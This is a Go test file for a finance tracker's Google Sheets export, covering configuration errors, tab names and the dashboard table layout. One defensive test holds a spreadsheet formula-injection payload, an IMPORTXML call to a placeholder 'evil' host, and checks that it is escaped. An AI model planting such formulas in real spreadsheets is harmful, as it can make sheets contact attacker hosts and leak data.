package google

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fintrack/internal/core"
	"fintrack/internal/report"
)

func TestNew_MissingSpreadsheetID(t *testing.T) {
	_, err := New(context.Background(), Config{})
	if err == nil || err.Error() != "missing spreadsheet id" {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestNew_MissingCredentials(t *testing.T) {
	t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", "")
	_, err := New(context.Background(), Config{SpreadsheetID: "sheet"})
	if err == nil || !strings.Contains(err.Error(), "missing service account credentials") {
		t.Fatalf("expected missing credentials error, got %v", err)
	}
}

func TestNew_UnreadableCredentialsFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "missing.json")
	_, err := New(context.Background(), Config{SpreadsheetID: "sheet", CredentialsFile: path})
	if err == nil || !strings.Contains(err.Error(), "read service account file") {
		t.Fatalf("expected read error, got %v", err)
	}
	if _, statErr := os.Stat(path); !os.IsNotExist(statErr) {
		t.Fatalf("test file should not exist")
	}
}

func TestPublishDashboard_NoService(t *testing.T) {
	c := &Client{spreadsheetID: "sheet", tabPrefix: "Report"}
	if err := c.PublishDashboard(context.Background(), "alice", report.Dashboard{}); err == nil {
		t.Fatal("expected error without a service")
	}
}

func TestTabName(t *testing.T) {
	tests := []struct {
		prefix, owner, want string
	}{
		{"Report", "alice", "Report alice"},
		{"Report", "", "Report"},
		{"", "bob", "bob"},
	}
	for _, tt := range tests {
		if got := TabName(tt.prefix, tt.owner); got != tt.want {
			t.Errorf("TabName(%q, %q) = %q, want %q", tt.prefix, tt.owner, got, tt.want)
		}
	}
	if got := TabName("Report", strings.Repeat("x", 200)); len(got) != maxTabName {
		t.Errorf("long names must be truncated, got %d chars", len(got))
	}
	if got := quoteTab("Bob's"); got != "'Bob''s'" {
		t.Errorf("quoteTab = %q", got)
	}
}

func TestBuildTable(t *testing.T) {
	rows := []core.Transaction{
		{ID: "1", Kind: core.KindIncome, Amount: core.MustMoney("1000"), Date: core.NewDate(2024, 5, 10)},
		{ID: "2", Kind: core.KindExpense, Amount: core.MustMoney("400"), Date: core.NewDate(2024, 5, 12),
			Category: &core.CategoryRef{Name: "Food", Color: "#111111"}},
	}
	now := time.Date(2024, 5, 15, 0, 0, 0, 0, time.UTC)
	d, err := report.BuildDashboard(report.Inputs{Transactions: rows}, now, 2, report.Options{})
	if err != nil {
		t.Fatal(err)
	}

	table := BuildTable(d)

	want := map[string]string{"Month": "2024-05", "Income": "1000.00", "Expense": "400.00", "Net": "600.00", "Bank balance": "0.00"}
	for _, row := range table[:6] {
		key := row[0].(string)
		if row[1] != want[key] && want[key] != "" {
			t.Errorf("%s = %v, want %s", key, row[1], want[key])
		}
	}

	// 6 summary rows, blank, title, header, 2 series rows, blank, title, header, 1 slice
	if len(table) != 15 {
		t.Fatalf("unexpected row count %d: %v", len(table), table)
	}
	series := table[9]
	if series[0] != "2024-04" || series[1] != "Apr" || series[2] != "0.00" {
		t.Errorf("unexpected series row %v", series)
	}
	slice := table[14]
	if slice[0] != "Food" || slice[1] != "400.00" || slice[2] != "1.0000" || slice[3] != "#111111" {
		t.Errorf("unexpected breakdown row %v", slice)
	}
}

func TestBuildTable_LabelsStayLiteral(t *testing.T) {
	d := report.Dashboard{Breakdown: []report.Slice{
		{Label: `=IMPORTXML("http://evil/x","//a")`},
		{Label: "+1"},
		{Label: "-rent"},
		{Label: "@home"},
		{Label: "Food"},
	}}
	table := BuildTable(d)
	got := table[len(table)-5:]
	want := []string{`'=IMPORTXML("http://evil/x","//a")`, "'+1", "'-rent", "'@home", "Food"}
	for i, row := range got {
		if row[0] != want[i] {
			t.Errorf("label cell %d = %v, want %s", i, row[0], want[i])
		}
	}
	if got := cellText(""); got != "" {
		t.Errorf("cellText(\"\") = %q", got)
	}
}
